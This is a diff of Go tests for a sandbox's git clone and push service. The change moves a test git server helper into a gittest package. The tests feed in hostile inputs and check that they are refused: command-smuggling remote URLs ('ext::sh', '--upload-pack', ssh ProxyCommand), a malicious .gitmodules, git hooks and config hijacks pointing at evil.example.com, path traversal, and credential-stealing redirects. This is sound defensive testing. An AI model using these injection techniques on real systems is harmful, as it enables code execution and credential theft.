@@ -15,33 +15,34 @@ import (
 	sandboxv1 "github.com/fairlead/fairlead/gen/go/fairlead/sandbox/v1"
 	"github.com/fairlead/fairlead/services/internal/kit/apierr"
 	"github.com/fairlead/fairlead/services/sandbox"
+	"github.com/fairlead/fairlead/services/sandbox/gittest"
 )
 
 func TestRemotesThatAreNotAllowedAreRefused(t *testing.T) {
-	f := newForge(t)
-	f.publish("read-only", map[string]string{"a": "a"})
+	f := gittest.New(t)
+	f.Publish("read-only", map[string]string{"a": "a"})
 	var data string
-	c := open(t, sandbox.LevelBasic, f.allow, func(c *sandbox.Config) { data = c.Data })
+	c := open(t, sandbox.LevelBasic, allow(f), func(c *sandbox.Config) { data = c.Data })
 	for _, x := range []struct{ name, url, ref, directory, reason string }{
 		{name: "a transport that runs a program", url: "ext::sh -c touch% /tmp/pwned", reason: "BAD_REPOSITORY"},
 		{name: "a file", url: "file:///etc", reason: "BAD_REPOSITORY"},
 		{name: "a path", url: "/etc", reason: "BAD_REPOSITORY"},
-		{name: "plain HTTP", url: strings.Replace(f.repo("read-only"), "https", "http", 1), reason: "BAD_REPOSITORY"},
+		{name: "plain HTTP", url: strings.Replace(f.Repo("read-only"), "https", "http", 1), reason: "BAD_REPOSITORY"},
 		{name: "SSH", url: "ssh://-oProxyCommand=touch%20x/org/app", reason: "BAD_REPOSITORY"},
 		{name: "SSH in short", url: "git@127.0.0.1:org/app", reason: "BAD_REPOSITORY"},
 		{name: "an option", url: "--upload-pack=touch /tmp/pwned", reason: "BAD_REPOSITORY"},
-		{name: "a user name", url: strings.Replace(f.repo("read-only"), "//", "//a:b@", 1), reason: "BAD_REPOSITORY"},
-		{name: "a query", url: f.repo("read-only") + "?x=y", reason: "BAD_REPOSITORY"},
-		{name: "dots", url: f.url + "/org/../other/app.git", reason: "BAD_REPOSITORY"},
-		{name: "encoded dots", url: f.url + "/org/%2e%2e/app.git", reason: "BAD_REPOSITORY"},
-		{name: "a line break", url: f.repo("read-only") + "\nx", reason: "BAD_REPOSITORY"},
-		{name: "another path", url: f.url + "/other/app.git", reason: "REMOTE_NOT_ALLOWED"},
+		{name: "a user name", url: strings.Replace(f.Repo("read-only"), "//", "//a:b@", 1), reason: "BAD_REPOSITORY"},
+		{name: "a query", url: f.Repo("read-only") + "?x=y", reason: "BAD_REPOSITORY"},
+		{name: "dots", url: f.URL + "/org/../other/app.git", reason: "BAD_REPOSITORY"},
+		{name: "encoded dots", url: f.URL + "/org/%2e%2e/app.git", reason: "BAD_REPOSITORY"},
+		{name: "a line break", url: f.Repo("read-only") + "\nx", reason: "BAD_REPOSITORY"},
+		{name: "another path", url: f.URL + "/other/app.git", reason: "REMOTE_NOT_ALLOWED"},
 		{name: "another host", url: "https://example.com/org/read-only.git", reason: "REMOTE_NOT_ALLOWED"},
 		{name: "another port", url: "https://127.0.0.1:1/org/read-only.git", reason: "REMOTE_NOT_ALLOWED"},
-		{name: "a reference that is an option", url: f.repo("read-only"), ref: "--upload-pack=x", reason: "BAD_REPOSITORY"},
-		{name: "a reference that is an expression", url: f.repo("read-only"), ref: "HEAD@{1}", reason: "BAD_REPOSITORY"},
-		{name: "a reference that is not there", url: f.repo("read-only"), ref: "nowhere", reason: "GIT_FAILED"},
-		{name: "a repository that is not there", url: f.url + "/org/read-nothing.git", reason: "GIT_FAILED"},
+		{name: "a reference that is an option", url: f.Repo("read-only"), ref: "--upload-pack=x", reason: "BAD_REPOSITORY"},
+		{name: "a reference that is an expression", url: f.Repo("read-only"), ref: "HEAD@{1}", reason: "BAD_REPOSITORY"},
+		{name: "a reference that is not there", url: f.Repo("read-only"), ref: "nowhere", reason: "GIT_FAILED"},
+		{name: "a repository that is not there", url: f.URL + "/org/read-nothing.git", reason: "GIT_FAILED"},
 	} {
 		_, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: x.url, Ref: x.ref, Directory: "x"})
 		if got := apierr.Reason(err); got != x.reason {
@@ -49,7 +50,7 @@ func TestRemotesThatAreNotAllowedAreRefused(t *testing.T) {
 		}
 	}
 	for _, directory := range []string{"../x", ".git", "a/b", "-x", ".x", "x\x00"} {
-		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("read-only"), Directory: directory}); apierr.Code(err) != codes.InvalidArgument {
+		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("read-only"), Directory: directory}); apierr.Code(err) != codes.InvalidArgument {
 			t.Errorf("the directory %q: %v", directory, err)
 		}
 	}
@@ -59,10 +60,10 @@ func TestRemotesThatAreNotAllowedAreRefused(t *testing.T) {
 	if left, err := filepath.Glob(filepath.Join(data, "*", "*", "staging", "*")); err != nil || len(left) > 0 {
 		t.Errorf("left %v, %v", left, err)
 	}
-	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("read-only")}); err != nil {
+	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("read-only")}); err != nil {
 		t.Fatal(err)
 	}
-	_, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "read-only", Url: f.repo("read-only")})
+	_, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "read-only", Url: f.Repo("read-only")})
 	if apierr.Reason(err) != "REMOTE_NOT_ALLOWED" || apierr.Code(err) != codes.PermissionDenied {
 		t.Errorf("a push where only clones are allowed: %v", err)
 	}
@@ -71,11 +72,11 @@ func TestRemotesThatAreNotAllowedAreRefused(t *testing.T) {
 // TestAHostileRepositoryRunsNothingWithTheCredential has a session write whatever a
 // repository may say into one, and then has it pushed.
 func TestAHostileRepositoryRunsNothingWithTheCredential(t *testing.T) {
-	f := newForge(t)
-	f.publish("app", map[string]string{".gitattributes": "* filter=evil diff=evil merge=evil\n", ".gitmodules": "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c touch% /workspace/pwned\n", "a": "a"})
+	f := gittest.New(t)
+	f.Publish("app", map[string]string{".gitattributes": "* filter=evil diff=evil merge=evil\n", ".gitmodules": "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c touch% /workspace/pwned\n", "a": "a"})
 	eachLevel(t, func(t *testing.T, level string) {
-		c := open(t, level, f.allow)
-		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app"), Branch: "evil-" + level}); err != nil {
+		c := open(t, level, allow(f))
+		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app"), Branch: "evil-" + level}); err != nil {
 			t.Fatal(err)
 		}
 		// What is run leaves a mark wherever it can, among others in the workspace.
@@ -85,7 +86,7 @@ func TestAHostileRepositoryRunsNothingWithTheCredential(t *testing.T) {
 			for h in pre-push post-checkout pre-commit reference-transaction post-index-change; do cp /workspace/evil .git/hooks/$h 2>/dev/null || { mkdir -p .git/hooks; cp /workspace/evil .git/hooks/$h; }; done
 			for k in core.sshCommand core.gitProxy core.askPass core.editor core.pager credential.helper gpg.program filter.evil.clean filter.evil.smudge filter.evil.process diff.evil.command diff.evil.textconv uploadpack.packObjectsHook remote.origin.receivepack remote.origin.vcs; do git config $k /workspace/evil; done
 			git config filter.evil.required true; git config core.hooksPath /workspace/repos/app/.git/hooks
-			git config url.ext::/workspace/evil.insteadOf `+f.url+`; git config url.https://evil.example.com/.pushInsteadOf `+f.url+`
+			git config url.ext::/workspace/evil.insteadOf `+f.URL+`; git config url.https://evil.example.com/.pushInsteadOf `+f.URL+`
 			git config http.proxy http://127.0.0.1:1; git config http.sslVerify false; git config http.extraHeader 'X-Evil: yes'; git config push.pushOption evil; git config push.followTags true
 			mkdir -p .git/info /home/agent/.config/git; cp .git/config /home/agent/.gitconfig; cp .git/config /home/agent/.config/git/config
 			echo 'machine 127.0.0.1 login evil password evil' > /home/agent/.netrc
@@ -93,11 +94,11 @@ func TestAHostileRepositoryRunsNothingWithTheCredential(t *testing.T) {
 		if !strings.Contains(r.out, "DONE") {
 			t.Fatalf("%q %q", r.out, r.err)
 		}
-		p, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "app", Url: f.repo("app"), Branch: "evil-" + level})
+		p, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "app", Url: f.Repo("app"), Branch: "evil-" + level})
 		if err != nil {
 			t.Fatal(err)
 		}
-		if got := f.git("-C", f.dir+"/org/app.git", "rev-parse", "refs/heads/evil-"+level); got != p.GetNewCommit() {
+		if got := f.Git("-C", f.Dir+"/org/app.git", "rev-parse", "refs/heads/evil-"+level); got != p.GetNewCommit() {
 			t.Errorf("the remote has %s, want %s", got, p.GetNewCommit())
 		}
 		if r := c.bash(t, "cat pwned* 2>/dev/null"); r.out != "" {
@@ -109,21 +110,21 @@ func TestAHostileRepositoryRunsNothingWithTheCredential(t *testing.T) {
 		if err != nil && apierr.Reason(err) != "GIT_FAILED" {
 			t.Errorf("status: %v, %v", st, err)
 		}
-		if r := c.bash(t, "cat pwned.net pwned.env 2>/dev/null"); strings.Contains(r.out, gitSecret) || strings.Contains(r.out, "3128") {
+		if r := c.bash(t, "cat pwned.net pwned.env 2>/dev/null"); strings.Contains(r.out, gittest.Secret) || strings.Contains(r.out, "3128") {
 			t.Errorf("status ran something with a way out: %s", r.out)
 		}
 	})
 }
 
 func TestRepositoriesThatCannotBeUsedAreRefused(t *testing.T) {
-	f := newForge(t)
-	f.publish("app", map[string]string{"a": "a"})
-	c := open(t, sandbox.LevelBasic, f.allow)
-	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app")}); err != nil {
+	f := gittest.New(t)
+	f.Publish("app", map[string]string{"a": "a"})
+	c := open(t, sandbox.LevelBasic, allow(f))
+	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app")}); err != nil {
 		t.Fatal(err)
 	}
 	push := func(directory string) error {
-		_, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: directory, Url: f.repo("app")})
+		_, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: directory, Url: f.Repo("app")})
 		return err
 	}
 	for _, x := range []struct{ name, script, directory, reason string }{
@@ -141,24 +142,24 @@ func TestRepositoriesThatCannotBeUsedAreRefused(t *testing.T) {
 			t.Errorf("%s: %v", x.name, err)
 		}
 	}
-	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app")}); apierr.Reason(err) != "REPOSITORY_EXISTS" {
+	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app")}); apierr.Reason(err) != "REPOSITORY_EXISTS" {
 		t.Errorf("a clone over another: %v", err)
 	}
 	c.bash(t, "rm -rf repos; ln -s /etc repos")
-	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app")}); apierr.Reason(err) != "PATH_ESCAPES" {
+	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app")}); apierr.Reason(err) != "PATH_ESCAPES" {
 		t.Errorf("a clone through a link: %v", err)
 	}
 }
 
 // TestAHostileTreeDoesNotComeOut clones commits that no honest Git makes.
 func TestAHostileTreeDoesNotComeOut(t *testing.T) {
-	f := newForge(t)
-	c := open(t, sandbox.LevelBasic, f.allow)
+	f := gittest.New(t)
+	c := open(t, sandbox.LevelBasic, allow(f))
 	for i, path := range []string{".git/config", ".GIT/config", "a/.Git/hooks/post-checkout", "git~1/config", "..", ".git\u200c/config"} {
 		name := fmt.Sprintf("tree-%d", i)
-		f.publish(name, map[string]string{"x": "x"})
-		bare := filepath.Join(f.dir, "org", name+".git")
-		blob := f.git("-C", bare, "rev-parse", "HEAD:x")
+		f.Publish(name, map[string]string{"x": "x"})
+		bare := filepath.Join(f.Dir, "org", name+".git")
+		blob := f.Git("-C", bare, "rev-parse", "HEAD:x")
 		tree := ""
 		parts := strings.Split(path, "/")
 		for j := len(parts) - 1; j >= 0; j-- { // hash-object checks nothing when it is told so
@@ -166,16 +167,16 @@ func TestAHostileTreeDoesNotComeOut(t *testing.T) {
 			if tree != "" {
 				mode, sha = "40000", tree
 			}
-			raw := filepath.Join(f.dir, "tree")
+			raw := filepath.Join(f.Dir, "tree")
 			entry := append([]byte(mode+" "+parts[j]+"\x00"), unhex(t, sha)...)
 			if err := os.WriteFile(raw, entry, 0o600); err != nil {
 				t.Fatal(err)
 			}
-			tree = f.git("-C", bare, "hash-object", "-t", "tree", "-w", "--literally", raw)
+			tree = f.Git("-C", bare, "hash-object", "-t", "tree", "-w", "--literally", raw)
 		}
-		bad := f.git("-C", bare, "commit-tree", tree, "-m", "evil")
-		f.git("-C", bare, "update-ref", "refs/heads/main", bad)
-		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo(name)}); apierr.Reason(err) != "GIT_FAILED" {
+		bad := f.Git("-C", bare, "commit-tree", tree, "-m", "evil")
+		f.Git("-C", bare, "update-ref", "refs/heads/main", bad)
+		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo(name)}); apierr.Reason(err) != "GIT_FAILED" {
 			t.Errorf("%s: %v", path, err)
 		}
 	}
@@ -191,48 +192,48 @@ func unhex(t *testing.T, s string) []byte {
 }
 
 func TestARedirectDoesNotTakeTheCredentialAlong(t *testing.T) {
-	f := newForge(t)
-	f.publish("app", map[string]string{"a": "a"})
-	other := newForge(t)
-	other.publish("app", map[string]string{"a": "a"})
-	c := open(t, sandbox.LevelBasic, f.allow)
-	for _, to := range []string{other.url + "/org/app.git/info/refs?service=git-upload-pack", f.url + "/secret/info/refs?service=git-upload-pack"} {
-		before := len(f.requests())
-		f.meddle(func(w http.ResponseWriter, r *http.Request) bool {
+	f := gittest.New(t)
+	f.Publish("app", map[string]string{"a": "a"})
+	other := gittest.New(t)
+	other.Publish("app", map[string]string{"a": "a"})
+	c := open(t, sandbox.LevelBasic, allow(f))
+	for _, to := range []string{other.URL + "/org/app.git/info/refs?service=git-upload-pack", f.URL + "/secret/info/refs?service=git-upload-pack"} {
+		before := len(f.Requests())
+		f.Meddle(func(w http.ResponseWriter, r *http.Request) bool {
 			if !strings.HasPrefix(r.URL.Path, "/org/app.git/") {
 				return false
 			}
 			http.Redirect(w, r, to, http.StatusFound)
 			return true
 		})
-		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app")}); apierr.Reason(err) != "GIT_FAILED" {
+		if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app")}); apierr.Reason(err) != "GIT_FAILED" {
 			t.Errorf("%s: %v", to, err)
 		}
-		if slices.ContainsFunc(f.requests()[before:], func(s string) bool { return strings.Contains(s, "/secret/") }) {
-			t.Errorf("another path was asked for: %v", f.requests()[before:])
+		if slices.ContainsFunc(f.Requests()[before:], func(s string) bool { return strings.Contains(s, "/secret/") }) {
+			t.Errorf("another path was asked for: %v", f.Requests()[before:])
 		}
 	}
-	if len(other.requests()) > 0 {
-		t.Errorf("the other host was asked: %v", other.requests())
+	if len(other.Requests()) > 0 {
+		t.Errorf("the other host was asked: %v", other.Requests())
 	}
 }
 
 func TestARepositoryThatDoesNotFitIsRefused(t *testing.T) {
-	f := newForge(t)
+	f := gittest.New(t)
 	random := make([]byte, 4<<20)
 	for i := range random {
 		random[i] = byte(i * i >> 3 * 7)
 	}
-	f.publish("large", map[string]string{"a": string(random), "b": string(random[1:])})
+	f.Publish("large", map[string]string{"a": string(random), "b": string(random[1:])})
 	many := map[string]string{}
 	for i := range 600 {
 		many[fmt.Sprintf("d%d/f", i)] = "x"
 	}
-	f.publish("many", many)
+	f.Publish("many", many)
 	eachLevel(t, func(t *testing.T, level string) {
-		c := open(t, level, f.allow, func(c *sandbox.Config) { c.Limits.WorkspaceBytes, c.Limits.WorkspaceInodes = 6<<20, 500 })
+		c := open(t, level, allow(f), func(c *sandbox.Config) { c.Limits.WorkspaceBytes, c.Limits.WorkspaceInodes = 6<<20, 500 })
 		for _, name := range []string{"large", "many"} {
-			_, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo(name)})
+			_, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo(name)})
 			if apierr.Reason(err) != "WORKSPACE_FULL" || apierr.Code(err) != codes.ResourceExhausted {
 				t.Errorf("%s: %v", name, err)
 			}
@@ -244,52 +245,52 @@ func TestARepositoryThatDoesNotFitIsRefused(t *testing.T) {
 }
 
 func TestACloneIsMadeOnceForACall(t *testing.T) {
-	f := newForge(t)
-	first := f.publish("app", map[string]string{"a": "a"})
-	c := open(t, sandbox.LevelBasic, f.allow)
-	r := &sandboxv1.CloneRepositoryRequest{Call: c.named("clone.1"), Url: f.repo("app"), Ref: first}
+	f := gittest.New(t)
+	first := f.Publish("app", map[string]string{"a": "a"})
+	c := open(t, sandbox.LevelBasic, allow(f))
+	r := &sandboxv1.CloneRepositoryRequest{Call: c.named("clone.1"), Url: f.Repo("app"), Ref: first}
 	one, _, err := c.clone(t, r)
 	if err != nil || one.GetBranch() != "" || one.GetCommit() != first {
 		t.Fatalf("%v, %v", one, err)
 	}
-	n := len(f.requests())
+	n := len(f.Requests())
 	c.bash(t, "rm -rf repos/app")
 	again, _, err := c.clone(t, r)
-	if err != nil || again.GetCommit() != first || len(f.requests()) != n {
+	if err != nil || again.GetCommit() != first || len(f.Requests()) != n {
 		t.Errorf("again: %v, %v", again, err)
 	}
-	_, _, err = c.clone(t, &sandboxv1.CloneRepositoryRequest{Call: c.named("clone.1"), Url: f.repo("app"), Directory: "other"})
+	_, _, err = c.clone(t, &sandboxv1.CloneRepositoryRequest{Call: c.named("clone.1"), Url: f.Repo("app"), Directory: "other"})
 	wantReason(t, err, "CALL_ID_REUSED")
 	c.epoch = 5
 	c.ensure(t.Context(), t)
 	c.epoch = 4
-	_, _, err = c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app")})
+	_, _, err = c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app")})
 	wantReason(t, err, "STALE_EPOCH")
 }
 
 func TestAShallowCloneAndARejectedPush(t *testing.T) {
-	f := newForge(t)
-	f.publish("app", map[string]string{"a": "a"})
-	work := filepath.Join(f.dir, "work-app")
+	f := gittest.New(t)
+	f.Publish("app", map[string]string{"a": "a"})
+	work := filepath.Join(f.Dir, "work-app")
 	for i := range 3 {
-		f.git("-C", work, "commit", "-q", "--allow-empty", "-m", strconv.Itoa(i))
+		f.Git("-C", work, "commit", "-q", "--allow-empty", "-m", strconv.Itoa(i))
 	}
-	f.git("-C", work, "push", "-q", filepath.Join(f.dir, "org", "app.git"), "main")
-	c := open(t, sandbox.LevelBasic, f.allow)
-	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.repo("app"), Depth: 1, Ref: "main"}); err != nil {
+	f.Git("-C", work, "push", "-q", filepath.Join(f.Dir, "org", "app.git"), "main")
+	c := open(t, sandbox.LevelBasic, allow(f))
+	if _, _, err := c.clone(t, &sandboxv1.CloneRepositoryRequest{Url: f.Repo("app"), Depth: 1, Ref: "main"}); err != nil {
 		t.Fatal(err)
 	}
 	if r := c.bash(t, "cd repos/app && git rev-list --count HEAD && echo b > b && git add b && "+commit+" -m mine"); r.out != "1\n" {
 		t.Fatalf("%q %q", r.out, r.err)
 	}
 	push := func() (*sandboxv1.PushRepositoryResponse, error) {
-		return c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "app", Url: f.repo("app")})
+		return c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "app", Url: f.Repo("app")})
 	}
 	if p, err := push(); err != nil || p.GetRef() != "refs/heads/main" {
 		t.Fatalf("%v, %v", p, err)
 	}
-	f.git("-C", work, "commit", "-q", "--allow-empty", "-m", "theirs")
-	f.git("-C", work, "push", "-q", "--force", filepath.Join(f.dir, "org", "app.git"), "main")
+	f.Git("-C", work, "commit", "-q", "--allow-empty", "-m", "theirs")
+	f.Git("-C", work, "push", "-q", "--force", filepath.Join(f.Dir, "org", "app.git"), "main")
 	if _, err := push(); apierr.Reason(err) != "PUSH_REJECTED" || apierr.Code(err) != codes.Aborted {
 		t.Errorf("a push over somebody's commits: %v", err)
 	}
@@ -302,20 +303,20 @@ func TestAShallowCloneAndARejectedPush(t *testing.T) {
 	}
 	_, err = c.repos.CreateBranch(t.Context(), &sandboxv1.CreateBranchRequest{Call: c.call(), Directory: "app", Branch: "main"})
 	wantReason(t, err, "BRANCH_EXISTS")
-	p, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "app", Url: f.repo("app"), OnlyNew: true})
+	p, err := c.repos.PushRepository(t.Context(), &sandboxv1.PushRepositoryRequest{Call: c.call(), Directory: "app", Url: f.Repo("app"), OnlyNew: true})
 	if err != nil || !p.GetUpToDate() {
 		t.Errorf("%v, %v", p, err)
 	}
 }
 
 func TestANewRepositoryIsMade(t *testing.T) {
-	f := newForge(t)
-	c := open(t, sandbox.LevelBasic, f.allow)
+	f := gittest.New(t)
+	c := open(t, sandbox.LevelBasic, allow(f))
 	add := func(directory, url string) (*sandboxv1.AddRepositoryResponse, error) {
 		return c.repos.AddRepository(t.Context(), &sandboxv1.AddRepositoryRequest{Call: c.call(), Directory: directory, Url: url, Branch: "trunk"})
 	}
-	made, err := add("new", f.repo("app"))
-	if err != nil || !made.GetCreated() || made.GetRepository().GetBranch() != "trunk" || made.GetRepository().GetUrl() != f.repo("app") || made.GetRepository().GetCommit() != "" {
+	made, err := add("new", f.Repo("app"))
+	if err != nil || !made.GetCreated() || made.GetRepository().GetBranch() != "trunk" || made.GetRepository().GetUrl() != f.Repo("app") || made.GetRepository().GetCommit() != "" {
 		t.Fatalf("%v, %v", made, err)
 	}
 	if again, err := add("new", ""); err != nil || again.GetCreated() {
